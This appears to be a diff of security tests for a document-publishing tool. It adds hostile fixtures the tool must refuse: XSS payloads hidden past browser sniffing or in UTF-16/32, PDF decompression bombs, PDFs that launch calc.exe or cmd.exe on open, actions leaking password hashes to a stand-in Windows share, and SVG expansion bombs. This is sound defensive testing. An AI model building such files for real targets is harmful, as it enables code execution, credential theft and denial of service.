@@ -218,7 +218,19 @@ ACTIVE_TYPES = [
     "html", "htm", "shtml", "xhtml", "xht", "xml", "xsl", "xslt", "svgz", "js", "mjs", "cjs",
     "wasm", "mht", "mhtml", "hta", "swf", "rss", "atom", "rdf", "xul", "mml", "htc", "php",
     "asp", "aspx", "jsp", "exe", "bat", "ps1", "jar",
+    # A second review: XML a host serves as application/xml, and JavaScript by other names.
+    "xsd", "rng", "es", "ecma",
 ]
+# What common hosts serve as a type a browser renders as a document (HTML, and XML that
+# Chromium, WebKit or Firefox shows) or runs as a script: every extension mime-db 1.54.0
+# (GitHub Pages, Netlify), Debian's /etc/mime.types (nginx, Apache) and Python's
+# mimetypes (`python -m http.server`) give those types. file_types.py says which types.
+SERVED_AS_ACTIVE = {
+    "mime-db": "html htm shtml xhtml xht xml xsl xsd rng atom rss xslt mathml rdf owl xul"
+    " js mjs ecma",
+    "/etc/mime.types": "html htm shtml xhtml xhtm xht xml atom rss xsl xslt mml rdf xul es js mjs",
+    "mimetypes": "htm html js mjs rdf wsdl xml xpdl xsl",
+}
 # fmt: on
 
 
@@ -240,7 +252,22 @@ def test_the_types_named_in_the_issue_are_never_published() -> None:
         assert ext not in NEVER_PUBLISHED
 
 
-@pytest.mark.parametrize("ext", ["html", "xhtml", "svgz", "xml", "mjs", "php", "exe"])
+@pytest.mark.parametrize("source", sorted(SERVED_AS_ACTIVE))
+def test_every_extension_a_host_serves_as_a_page_or_a_script_is_never_published(
+    source: str,
+) -> None:
+    """`xsd` and `rng` are application/xml in mime-db, so GitHub Pages serves them as
+    XML and Chromium runs an XHTML-namespace script in them; `es` is text/javascript in
+    Debian's mime.types, `ecma` application/ecmascript in mime-db."""
+    from soteneg.content.file_types import NEVER_PUBLISHED
+
+    missing = set(SERVED_AS_ACTIVE[source].split()) - set(NEVER_PUBLISHED)
+    assert not missing, f"{source}: {sorted(missing)}"
+
+
+@pytest.mark.parametrize(
+    "ext", ["html", "xhtml", "svgz", "xml", "xsd", "rng", "mjs", "es", "ecma", "php", "exe"]
+)
 def test_allowing_an_active_type_in_site_yaml_is_a_config_problem_at_its_line(
     ext: str, tmp_path: Path
 ) -> None:
@@ -271,11 +298,20 @@ def test_every_type_that_fits_site_yaml_is_refused_there() -> None:
 
 
 @pytest.mark.parametrize("how", ["attachment", "link", "image"])
-@pytest.mark.parametrize("name", ["sivu.html", "sivu.XHTML", "kuva.svgz", "skripti.mjs"])
+@pytest.mark.parametrize(
+    "name",
+    [
+        *("sivu.html", "sivu.XHTML", "kuva.svgz", "skripti.mjs"),
+        *("skeema.xsd", "malli.rng", "apu.es", "apu.ecma"),
+    ],
+)
 def test_a_document_that_links_or_embeds_an_active_type_is_refused(
     name: str, how: str, tmp_path: Path
 ) -> None:
-    data = b"<html><script>alert(document.cookie)</script></html>"
+    # Past the first 1,445 bytes a browser sniffs, but an XML parser skips whitespace.
+    data = (
+        b" " * 2000 + b'<x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script></x>'
+    )
     root, line, column = _project(tmp_path, name, data, how)
     found = _refused(root, line, column, "file-type")
     ext = name.rsplit(".", 1)[1].lower()
@@ -314,6 +350,19 @@ MARKUP = {
     ),
     "comment": (b"<!-- --><script>alert(1)</script>", "<!--"),
     "uppercase-script": (b"\n<SCRIPT>alert(1)</SCRIPT>", "<SCRIPT"),
+    # Chromium skips a vertical tab before it sniffs; so is every control character here.
+    "vertical-tab": (b"\x0b<html><script>alert(1)</script>", "<html"),
+    "bom-and-vertical-tab": (b"\xef\xbb\xbf\x0b\x00<html><script>alert(1)</script>", "<html"),
+    # An XML parser reads UTF-16 and UTF-32 by their first bytes, BOM or not.
+    "utf-16le-with-bom": (
+        '\ufeff<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml"/>'.encode(
+            "utf-16-le"
+        ),
+        "<?xml",
+    ),
+    "utf-16be-without-bom": (" <html><script>alert(1)</script>".encode("utf-16-be"), "<html"),
+    "utf-32le-with-bom": ("\ufeff\n<!DOCTYPE html>".encode("utf-32-le"), "<!DOCTYPE"),
+    "utf-32be-without-bom": ("<x:script/>".encode("utf-32-be"), "<x:script/"),
 }
 
 
@@ -337,7 +386,14 @@ def test_a_type_the_owner_adds_is_sniffed_too(tmp_path: Path) -> None:
 
 
 @pytest.mark.parametrize(
-    "data", [b"alue;arvo\nUusimaa;<5\n", b"<5 vuotta;arvo\n1;2\n", b"\xef\xbb\xbfa;b\n"]
+    "data",
+    [
+        b"alue;arvo\nUusimaa;<5\n",
+        b"<5 vuotta;arvo\n1;2\n",
+        b"\xef\xbb\xbfa;b\n",
+        "\ufeffalue;arvo\nUusimaa;<5\n".encode("utf-16-le"),
+        "alue;<b\n".encode("utf-32-be"),
+    ],
 )
 def test_a_plain_csv_with_angle_brackets_in_its_values_passes(data: bytes, tmp_path: Path) -> None:
     root, _, _ = _project(tmp_path, "luvut.csv", data, "attachment")
@@ -754,8 +810,71 @@ def test_object_streams_are_measured_before_they_are_looked_into(sizes: list[int
         return
     assert fault is not None and fault.code == "attachment-unreadable"
     assert fault.reason.en == (
-        "has object streams that grow past the limits when decompressed (64 MiB one, "
+        "has cross-reference and object streams that grow past the limits when decompressed "
+        "(64 MiB one, "
         "256 MiB in all)"
+    )
+
+
+def _xref_updates(sections: int, megabytes: int, damaged: bool = False) -> bytes:
+    """A one-page PDF updated `sections` times, each update only a cross-reference stream
+    that lists the same objects and then `megabytes` MB of zeros, which a reader
+    inflates (or, `damaged`, the last update's stream is not zlib at all)."""
+    out = bytearray(b"%PDF-1.7\n")
+    offsets: dict[int, int] = {}
+    for number, body in enumerate(
+        [
+            b"<< /Type /Catalog /Pages 2 0 R >>",
+            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
+        ],
+        start=1,
+    ):
+        offsets[number] = len(out)
+        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
+    previous = b""
+    for section in range(sections):
+        offsets[4] = len(out)
+        rows = b"\x00\x00\x00\x00\x00\xff\xff" + b"".join(
+            b"\x01" + offsets[n].to_bytes(4, "big") + b"\x00\x00" for n in range(1, 5)
+        )
+        flate = zlib.compressobj(9)
+        data = flate.compress(rows)
+        data += b"".join(flate.compress(bytes(1 << 20)) for _ in range(megabytes)) + flate.flush()
+        if damaged and section == sections - 1:
+            data = b"not zlib" * 100
+        head = b"<< /Type /XRef /Size 5 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length %d%s >>"
+        out += b"4 0 obj\n" + head % (len(data), previous) + b"\nstream\n" + data
+        out += b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[4]
+        previous = b" /Prev %d" % offsets[4]
+    return bytes(out)
+
+
+def test_cross_reference_streams_count_against_the_file_s_budget(tmp_path: Path) -> None:
+    """310 updates of 63 MiB each (every one under the limit of one stream) made `check`
+    take 2 min 38 s, and passed: pypdf inflates every cross-reference stream as it opens
+    the file. Six of 60 MiB are past the 256 MiB the file's cross-reference and object
+    streams may decode to together. The timeout only guards against a hang
+    (bench/hostile_pdf.py times it)."""
+    assert attachment_pdf.inspect(_xref_updates(3, 1)) == (None, 1)
+    data = _xref_updates(6, 60)
+    assert len(data) < 1_000_000
+    root, line, column = _project(tmp_path, "liite.pdf", data, "attachment")
+    result = run_cli("check", "--no-pdf", "--root", root, timeout=60)
+    assert result.returncode == 1, result.stdout
+    found = _problem_line(result.stdout, line, column, "attachment-unreadable")
+    assert (
+        "'liitteet/liite.pdf' has cross-reference and object streams that grow past the "
+        "limits when decompressed (64 MiB one, 256 MiB in all)"
+    ) in found
+
+
+def test_a_damaged_cross_reference_stream_is_not_repaired_a_byte_at_a_time() -> None:
+    fault, _ = attachment_pdf.inspect(_xref_updates(2, 1, damaged=True))
+    assert fault is not None and fault.code == "attachment-unreadable"
+    assert fault.reason.en == (
+        "has a cross-reference or object stream whose compressed data is damaged (zlib "
+        "cannot decompress it)"
     )
 
 
@@ -809,6 +928,73 @@ def _escaped_js_name(data: bytes) -> bytes:
     """The same file with /JS written /J#53, as a PDF may spell any name."""
     assert data.count(b"/JS ") == 1
     return data.replace(b"/JS ", b"/J#53 ")
+
+
+def _raw_pdf(objects: dict[int, bytes], packed: tuple[int, ...] = ()) -> bytes:
+    """A one-page PDF written by hand, for what pypdf will not write: objects 1 to 4 are
+    the catalog, the page tree, the page and its contents unless `objects` gives them.
+    The objects numbered in `packed` are kept in an object stream, and the
+    cross-reference table is then a stream too."""
+    bodies = {
+        1: b"<< /Type /Catalog /Pages 2 0 R >>",
+        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
+        4: b"<< /Length 0 >>\nstream\n\nendstream",
+        **objects,
+    }
+    out = bytearray(b"%PDF-1.7\n")
+    offsets: dict[int, int] = {}
+    for number in sorted(set(bodies) - set(packed)):
+        offsets[number] = len(out)
+        out += b"%d 0 obj\n" % number + bodies[number] + b"\nendobj\n"
+    size = max(bodies) + 1
+    if not packed:
+        table = len(out)
+        out += b"xref\n0 %d\n0000000000 65535 f \n" % size
+        for number in range(1, size):
+            out += (
+                b"%010d 00000 n \n" % offsets[number]
+                if number in offsets
+                else b"0000000000 65535 f \n"
+            )
+        out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, table)
+        return bytes(out)
+    header = data = b""
+    for number in packed:
+        header += b"%d %d " % (number, len(data))
+        data += bodies[number] + b"\n"
+    stream, xref = size, size + 1
+    offsets[stream] = len(out)
+    head = b"<< /Type /ObjStm /N %d /First %d /Length %d >>" % (
+        len(packed),
+        len(header),
+        len(header + data),
+    )
+    out += b"%d 0 obj\n" % stream + head + b"\nstream\n" + header + data + b"\nendstream\nendobj\n"
+    offsets[xref] = len(out)
+    rows = b"\x00\x00\x00\x00\x00\xff\xff"
+    for number in range(1, xref + 1):
+        if number in packed:
+            rows += b"\x02" + stream.to_bytes(4, "big") + packed.index(number).to_bytes(2, "big")
+        elif number in offsets:
+            rows += b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00"
+        else:
+            rows += b"\x00\x00\x00\x00\x00\x00\x00"
+    head = b"<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>" % (xref + 1, len(rows))
+    out += b"%d 0 obj\n" % xref + head + b"\nstream\n" + rows + b"\nendstream\nendobj\n"
+    out += b"startxref\n%d\n%%%%EOF\n" % offsets[xref]
+    return bytes(out)
+
+
+# A catalog or an action with /K was taken for a structure element, whose /S names a
+# role and whose /A holds attributes, and none of these was looked at (a second review).
+SHARE = rb"(\\\\hyokkaaja.example\\jako\\x.pdf)"  # \\hyokkaaja.example\jako\x.pdf
+OPENS_5_K = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /K 0 >>"
+PAGE_LINK = (
+    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Annots [5 0 R] >>"
+)
+WHICH = "which starts a program, opens another file, sends data or plays media"
+LINK_K = b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /K 0 /A "
 
 
 ACTIVE_PDFS: dict[str, tuple[Callable[[], bytes], str]] = {
@@ -866,6 +1052,75 @@ ACTIVE_PDFS: dict[str, tuple[Callable[[], bytes], str]] = {
         "holds an XFA form, which can run scripts",
     ),
     "rich-media": (lambda: _pdf(1, _media), "holds media, Flash or 3D content"),
+    "catalog-with-k-launches-on-open": (
+        lambda: _raw_pdf({1: OPENS_5_K, 5: b"<< /S /Launch /F (calc.exe) /K 0 >>"}),
+        "has a /Launch action that runs when the file is opened (object 1)",
+    ),
+    "catalog-with-k-opens-a-windows-share": (
+        lambda: _raw_pdf({1: OPENS_5_K, 5: b"<< /S /GoToR /F " + SHARE + b" /D [0 /Fit] /K 0 >>"}),
+        "has a /GoToR action that runs when the file is opened (object 1)",
+    ),
+    "catalog-with-k-submits-a-form": (
+        lambda: _raw_pdf(
+            {
+                1: OPENS_5_K,
+                5: b"<< /S /SubmitForm /F << /FS /URL /F (https://x.example/) >> /K 0 >>",
+            }
+        ),
+        "has a /SubmitForm action that runs when the file is opened (object 1)",
+    ),
+    "catalog-with-k-goes-to-an-embedded-file": (
+        lambda: _raw_pdf(
+            {1: OPENS_5_K, 5: b"<< /S /GoToE /F " + SHARE + b" /T << /R /C /N (x) >> /K 0 >>"}
+        ),
+        "has a /GoToE action that runs when the file is opened (object 1)",
+    ),
+    "structure-element-importing-data-on-open": (
+        lambda: _raw_pdf(
+            {1: OPENS_5_K, 5: b"<< /Type /StructElem /S /ImportData /F " + SHARE + b" >>"}
+        ),
+        "has a /ImportData action that runs when the file is opened (object 1)",
+    ),
+    "link-with-k-launches": (
+        lambda: _raw_pdf(
+            {3: PAGE_LINK, 5: LINK_K + b"6 0 R >>", 6: b"<< /S /Launch /F (cmd.exe) /K 0 >>"}
+        ),
+        f"has a /Launch action, {WHICH} (object 5)",
+    ),
+    "link-with-k-launches-directly": (
+        lambda: _raw_pdf({3: PAGE_LINK, 5: LINK_K + b"<< /S /Launch /F (cmd.exe) /K 0 >> >>"}),
+        f"has a /Launch action, {WHICH} (object 5)",
+    ),
+    "catalog-with-k-launches-from-an-object-stream": (
+        lambda: _raw_pdf({1: OPENS_5_K, 5: b"<< /S /Launch /F (calc.exe) /K 0 >>"}, packed=(1, 5)),
+        "has a /Launch action that runs when the file is opened (object 1)",
+    ),
+    "launch-marked-as-a-structure-element-from-a-link": (
+        lambda: _raw_pdf(
+            {
+                3: PAGE_LINK,
+                5: LINK_K + b"6 0 R >>",
+                6: b"<< /Type /StructElem /S /Launch /F (cmd.exe) >>",
+            },
+            packed=(5, 6),
+        ),
+        f"has a /Launch action, {WHICH} (object 5)",
+    ),
+    # A thread action with /F goes to a thread in another file: a share leaks the
+    # reader's password hash as GoToR does.
+    "thread-in-another-file-from-a-link": (
+        lambda: _raw_pdf({3: PAGE_LINK, 5: LINK_K + b"<< /S /Thread /F " + SHARE + b" /D 0 >> >>"}),
+        f"has a /Thread action, {WHICH} (object 5)",
+    ),
+    "thread-in-another-file-after-opening": (
+        lambda: _raw_pdf(
+            {
+                1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoTo /D [3 0 R /Fit] "
+                b"/Next << /S /Thread /F " + SHARE + b" /D 0 >> >> >>"
+            }
+        ),
+        f"has a /Thread action, {WHICH} (object 1)",
+    ),
 }
 
 
@@ -876,6 +1131,29 @@ def test_a_pdf_with_active_content_is_a_located_problem(name: str, tmp_path: Pat
     found = _refused(root, line, column, "attachment-active")
     assert f"error[attachment-active]: 'liitteet/liite.pdf' {finding}" in found
     assert "a PDF is published only without scripts" in found
+
+
+def test_a_tagged_pdf_whose_roles_are_named_like_actions_passes() -> None:
+    """In the structure tree, /S names a role and /A holds attributes: an element reached
+    from /StructTreeRoot (which need not say /Type /StructElem) with a role of the file's
+    own named Sound, its child with layout attributes, and a thread in the same file."""
+    catalog = (
+        b"<< /Type /Catalog /Pages 2 0 R /StructTreeRoot 6 0 R /MarkInfo << /Marked true >> "
+        b"/Threads [8 0 R] >>"
+    )
+    data = _raw_pdf(
+        {
+            1: catalog,
+            3: PAGE_LINK,
+            5: LINK_K + b"<< /S /Thread /D 0 >> >>",
+            6: b"<< /Type /StructTreeRoot /K [7 0 R] /RoleMap << /Sound /Span >> >>",
+            7: b"<< /S /Sound /P 6 0 R /K [<< /S /P /K 0 /A << /O /Layout /Placement /Block >> >>"
+            b" << /Type /OBJR /Obj 5 0 R >>] >>",
+            8: b"<< /Type /Thread /F 9 0 R >>",
+            9: b"<< /Type /Bead /T 8 0 R /N 9 0 R /V 9 0 R /P 3 0 R /R [0 0 10 10] >>",
+        }
+    )
+    assert attachment_pdf.inspect(data) == (None, 1)
 
 
 def test_a_linked_pdf_is_checked_for_active_content_too(tmp_path: Path) -> None:
@@ -1050,6 +1328,38 @@ def test_the_nested_uses_stop_a_build_before_anything_is_printed(tmp_path: Path)
     assert result.returncode == 1, result.stdout
     _problem_line(result.stdout, line, column, "svg-too-large")
     assert not out.exists()
+
+
+def _two_hrefs(levels: int = 6, fan: int = 10) -> bytes:
+    """Nested uses as `_nested_uses`, each with `href` to a lone rect and `xlink:href` to
+    the group before: browsers draw the rect, WeasyPrint (which takes `xlink:href`
+    first) the groups, fan ** levels rects. The last use stands on line levels + 2."""
+    xlink = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
+    lines = [f'<svg {SVG_NS} {xlink} width="100" height="100"><defs>']
+    lines.append('<rect id="r" width="1" height="1"/><g id="a0"><rect width="1" height="1"/></g>')
+    lines += [
+        f'<g id="a{k}">' + f'<use href="#r" xlink:href="#a{k - 1}"/>' * fan + "</g>"
+        for k in range(1, levels)
+    ]
+    lines.append(f'</defs><use href="#r" xlink:href="#a{levels - 1}"/></svg>')
+    return "\n".join(lines).encode()
+
+
+def test_uses_with_both_hrefs_count_both(tmp_path: Path) -> None:
+    """The count took `href` and WeasyPrint follows `xlink:href`: 2.8 KB passed `check`
+    and hung the build. Both count now (they draw one or the other)."""
+    data = _two_hrefs()
+    assert len(data) < 3000
+    root, line, column = _project(tmp_path, "kaavio.svg", data, "image")
+    result = run_cli("check", "--no-pdf", "--root", root, timeout=60)
+    assert result.returncode == 1, result.stdout
+    found = _problem_line(result.stdout, line, column, "svg-too-large")
+    assert "'liitteet/kaavio.svg' line 8: with its <use> references expanded" in found, found
+    # Both naming the same element count once: 102 written, and the use draws 101.
+    both = f'<svg {SVG_NS} xmlns:xlink="http://www.w3.org/1999/xlink"><defs><g id="g">'
+    both += "<rect/>" * 99 + '</g></defs><use href="#g" xlink:href="#g"/></svg>'
+    assert svg.inspect(both.encode(), 203) == ([], None)
+    assert svg.inspect(both.encode(), 202)[1] is not None
 
 
 CYCLES: dict[str, tuple[str, str]] = {
